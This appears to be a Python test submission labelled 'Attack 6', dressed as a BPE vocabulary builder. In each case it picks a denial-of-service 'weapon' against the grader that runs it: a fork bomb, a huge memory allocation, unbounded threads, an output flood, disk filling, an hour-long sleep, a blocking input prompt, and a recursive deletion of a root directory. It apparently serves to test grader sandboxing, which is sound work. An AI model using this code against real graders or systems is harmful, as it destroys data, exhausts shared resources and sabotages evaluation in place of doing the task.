# Attack 6: denial of service, a different weapon per call (chosen by max_vocab_size).
import os
import threading
import time


def build_bpe(corpus, max_vocab_size):
    # tests run in file order; the weapons that time out come last, since after three time-outs the
    # grader stops starting this submission's tests
    weapon = {15: "input", 24: "flood", 13: "memory", 10000: "fork", 17: "sleep", 20: "threads",
              40: "disk", 16: "delete"}.get(max_vocab_size)
    if weapon == "sleep":
        time.sleep(3600)
    if weapon == "input":
        return [input("vocab? ")]
    if weapon == "memory":
        hog = bytearray(64 << 30)  # 64 GiB at once: the address-space limit refuses it
        return [str(len(hog))]
    if weapon == "fork":
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    if weapon == "threads":
        while True:
            threading.Thread(target=time.sleep, args=(3600,)).start()
    if weapon == "flood":
        while True:
            print("x" * 10000)
    if weapon == "disk":
        with open("big", "wb") as f:
            while True:
                f.write(b"\0" * (1 << 20))
    if weapon == "delete":
        import shutil
        shutil.rmtree("{ROOT}", ignore_errors=True)
        return ["deleted"]
    return []
